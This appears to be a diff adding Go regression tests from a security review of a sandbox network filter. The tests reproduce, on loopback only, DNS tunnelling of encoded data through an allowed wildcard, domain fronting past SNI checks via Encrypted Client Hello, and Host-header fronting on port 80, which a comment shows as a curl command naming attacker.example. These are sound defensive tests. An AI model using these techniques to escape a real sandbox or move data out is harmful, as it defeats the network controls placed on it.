@@ -1,0 +1,241 @@
+package netfilter
+
+// Repro tests from an outside review of the filtered network's resolver
+// and name policy (issue 18; branch rvdns). Each FAILS on purpose on the
+// code it was written against, and passes once the finding is fixed. Only
+// loopback servers the tests run are contacted.
+
+import (
+	"context"
+	"crypto/ecdh"
+	"crypto/rand"
+	"crypto/tls"
+	"encoding/binary"
+	"io"
+	"net"
+	"net/http/httptest"
+	"net/netip"
+	"os"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"golang.org/x/net/dns/dnsmessage"
+	"golang.org/x/sys/unix"
+)
+
+// TestReviewDNSWildcardMadeUpNamesUnbounded: under an allowed wildcard
+// every made-up name is looked up upstream, and a name that does not exist
+// there (NXDOMAIN) is not entered in the address table, so MaxNames never
+// fills and never stops the next one. docs/security.md says "past the
+// table's 1024 names nothing more is looked up either", and the wildcard
+// caveat reads as if the names that leave were bounded by that table; in
+// fact a loop of "<data>.zone" queries sends an unbounded stream of
+// sandbox-chosen labels to the host's resolver and the zone's servers
+// (TestNoUpstreamPastNameCap only covers names that exist upstream).
+func TestReviewDNSWildcardMadeUpNamesUnbounded(t *testing.T) {
+	up := newFakeUpstream(t)
+	const maxNames = 2
+	f := newFilter(t, up, []string{"*.up.test"}, nil, nil, func(c *Config) { c.MaxNames = maxNames })
+	defer f.Close()
+	srv := serve(t, f)
+	// The fake upstream answers NXDOMAIN for names starting "nothere.".
+	const made = 24
+	for i := range made {
+		name := "nothere.c2VjcmV0LWRhdGE" + itoa(uint16(i)) + ".up.test."
+		if rc, _ := query(t, srv, name, dnsmessage.TypeA, false); rc != dnsmessage.RCodeNameError && rc != dnsmessage.RCodeServerFailure {
+			t.Fatalf("%s: %v", name, rc)
+		}
+	}
+	// One lookup is an A and an AAAA query. A bound of MaxNames lookups
+	// (plus the queries in flight at once) is what the table promises.
+	n := up.queries.Load()
+	if n > 2*(maxNames+1) {
+		up.mu.Lock()
+		t.Errorf("with MaxNames %d, %d made-up names under *.up.test made %d upstream queries (e.g. %q): names that do not exist never count against the bound, so DNS tunnelling through an allowed wildcard is unbounded",
+			maxNames, made, n, up.names[len(up.names)-1])
+		up.mu.Unlock()
+	}
+}
+
+// echConfig returns one ECHConfig (draft-ietf-tls-esni, version 0xfe0d)
+// for an X25519 key, with publicName as the client-facing server's name,
+// and the private key.
+func echConfig(t *testing.T, publicName string) (config, priv []byte) {
+	t.Helper()
+	k, err := ecdh.X25519().GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	pub := k.PublicKey().Bytes()
+	var c []byte
+	c = append(c, 7)                             // config_id
+	c = binary.BigEndian.AppendUint16(c, 0x0020) // DHKEM(X25519, HKDF-SHA256)
+	c = binary.BigEndian.AppendUint16(c, uint16(len(pub)))
+	c = append(c, pub...)
+	c = binary.BigEndian.AppendUint16(c, 4)      // cipher suites
+	c = binary.BigEndian.AppendUint16(c, 0x0001) // HKDF-SHA256
+	c = binary.BigEndian.AppendUint16(c, 0x0001) // AES-128-GCM
+	c = append(c, 0)                             // maximum_name_length
+	c = append(c, byte(len(publicName)))
+	c = append(c, publicName...)
+	c = binary.BigEndian.AppendUint16(c, 0) // extensions
+	config = binary.BigEndian.AppendUint16(nil, 0xfe0d)
+	config = binary.BigEndian.AppendUint16(config, uint16(len(c)))
+	config = append(config, c...)
+	return config, k.Bytes()
+}
+
+// TestReviewDNSSNIBypassedByEncryptedClientHello: with CheckSNI the relay
+// reads the ClientHello's clear server name only. A client that speaks
+// Encrypted Client Hello puts the allowed name in the outer ClientHello
+// (it is the client who chooses that name, not the CDN) and the site it
+// really wants in the encrypted inner one; a client-facing server that
+// holds the ECH key (a CDN such as the one registry.npmjs.org sits behind)
+// decrypts it and serves the inner name. The relay lets it through: domain
+// fronting, which CheckSNI exists to catch, is not caught. Here the
+// "CDN" is a crypto/tls server with ECH keys whose public name is the
+// allowed good.test; the connection asks, encrypted, for other.example.
+func TestReviewDNSSNIBypassedByEncryptedClientHello(t *testing.T) {
+	cfg, priv := echConfig(t, "good.test")
+	var mu sync.Mutex
+	var served []string
+	// A certificate to serve (httptest's), for a TLS 1.3 server with
+	// ECH keys whose public name is the allowed one.
+	cert := httptest.NewTLSServer(nil)
+	certs := cert.TLS.Certificates
+	cert.Close()
+	ln, err := net.Listen("tcp4", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	serverCfg := &tls.Config{
+		Certificates: certs,
+		MinVersion:   tls.VersionTLS13,
+		EncryptedClientHelloKeys: []tls.EncryptedClientHelloKey{{
+			Config: cfg, PrivateKey: priv, SendAsRetry: true,
+		}},
+	}
+	serverCfg.GetConfigForClient = func(h *tls.ClientHelloInfo) (*tls.Config, error) {
+		mu.Lock()
+		served = append(served, h.ServerName)
+		mu.Unlock()
+		return nil, nil
+	}
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			go func() {
+				defer c.Close()
+				tc := tls.Server(c, serverCfg)
+				tc.SetDeadline(time.Now().Add(30 * time.Second))
+				if tc.Handshake() == nil {
+					io.WriteString(tc, "served "+tc.ConnectionState().ServerName)
+				}
+			}()
+		}
+	}()
+	port := ln.Addr().(*net.TCPAddr).AddrPort().Port()
+
+	up := newFakeUpstream(t)
+	var refusals []string
+	f := newFilter(t, up, []string{"good.test:" + itoa(port)}, nil, []string{"good.test:127.0.0.1"}, func(c *Config) {
+		c.CheckSNI, c.SNIPorts = true, []uint16{port}
+		c.OnRefusal = func(r *Refusal) { mu.Lock(); refusals = append(refusals, r.Reason); mu.Unlock() }
+	})
+	defer f.Close()
+	v := resolveVia(t, serve(t, f), "good.test")
+	verdict, err := f.Connect(context.Background(), netip.AddrPortFrom(v, port), Socket{Family: unix.AF_INET, Type: unix.SOCK_STREAM, FD: -1})
+	if err != nil || verdict.Action != Install {
+		t.Fatalf("connect: %+v %v", verdict, err)
+	}
+	file := os.NewFile(uintptr(verdict.Conn.Release()), "installed")
+	fc, err := net.FileConn(file)
+	file.Close()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer fc.Close()
+	fc.SetDeadline(time.Now().Add(30 * time.Second))
+	list := binary.BigEndian.AppendUint16(nil, uint16(len(cfg)))
+	list = append(list, cfg...)
+	tc := tls.Client(fc, &tls.Config{
+		ServerName: "other.example", InsecureSkipVerify: true, MinVersion: tls.VersionTLS13,
+		EncryptedClientHelloConfigList: list,
+	})
+	herr := tc.Handshake()
+	var body []byte
+	if herr == nil {
+		body, _ = io.ReadAll(tc)
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if herr == nil && strings.Contains(string(body), "other.example") {
+		t.Errorf("CheckSNI let a fronted connection through: outer SNI good.test, encrypted inner SNI other.example; the server says %q (names it saw: %q; refusals: %q)", body, served, refusals)
+	} else if len(refusals) == 0 {
+		t.Errorf("the ECH connection failed (%v) but no refusal was reported", herr)
+	}
+}
+
+// TestReviewDNSCheckSNILeavesPort80Fronted: a bare pattern allows ports
+// 80 and 443 (DefaultPorts), and CheckSNI checks 443 only
+// (DefaultSNIPorts). On port 80 the same CDN address routes by the HTTP
+// Host header, in clear: `--check-sni --allow-host registry.npmjs.org`
+// still lets `curl -H 'Host: attacker.example' http://registry.npmjs.org/`
+// reach any site on that CDN, so turning the check on does not stop
+// fronting under the default ports. Root only (port 80 of the host's
+// loopback); skipped when that port is taken.
+func TestReviewDNSCheckSNILeavesPort80Fronted(t *testing.T) {
+	ln, err := net.Listen("tcp4", "127.0.0.1:80")
+	if err != nil {
+		t.Skipf("needs 127.0.0.1:80 of the host (root, port free): %v", err)
+	}
+	defer ln.Close()
+	hosts := make(chan string, 1)
+	go func() {
+		c, err := ln.Accept()
+		if err != nil {
+			return
+		}
+		defer c.Close()
+		c.SetDeadline(time.Now().Add(30 * time.Second))
+		buf := make([]byte, 512)
+		n, _ := c.Read(buf)
+		for _, l := range strings.Split(string(buf[:n]), "\r\n") {
+			if h, ok := strings.CutPrefix(l, "Host: "); ok {
+				hosts <- h
+			}
+		}
+	}()
+	up := newFakeUpstream(t)
+	var refusals []*Refusal
+	f := newFilter(t, up, []string{"good.test"}, nil, []string{"good.test:127.0.0.1"}, func(c *Config) {
+		c.CheckSNI = true // SNIPorts left at the default, as --check-sni does
+		c.OnRefusal = func(r *Refusal) { refusals = append(refusals, r) }
+	})
+	defer f.Close()
+	v := resolveVia(t, serve(t, f), "good.test")
+	verdict, err := f.Connect(context.Background(), netip.AddrPortFrom(v, 80), Socket{Family: unix.AF_INET, Type: unix.SOCK_STREAM, FD: -1})
+	if err != nil || verdict.Action != Install {
+		// Refused: port 80 is not open to fronting.
+		return
+	}
+	fd := verdict.Conn.Release()
+	defer unix.Close(fd)
+	if _, err := unix.Write(fd, []byte("GET / HTTP/1.1\r\nHost: attacker.example\r\n\r\n")); err != nil {
+		t.Fatal(err)
+	}
+	select {
+	case h := <-hosts:
+		if h == "attacker.example" {
+			t.Errorf("with CheckSNI on and the default ports, a plain HTTP request to good.test:80 asking for Host %q reached the server unchecked (refusals: %v)", h, refusals)
+		}
+	case <-time.After(30 * time.Second):
+		// Deadlock guard: nothing reached the server.
+	}
+}
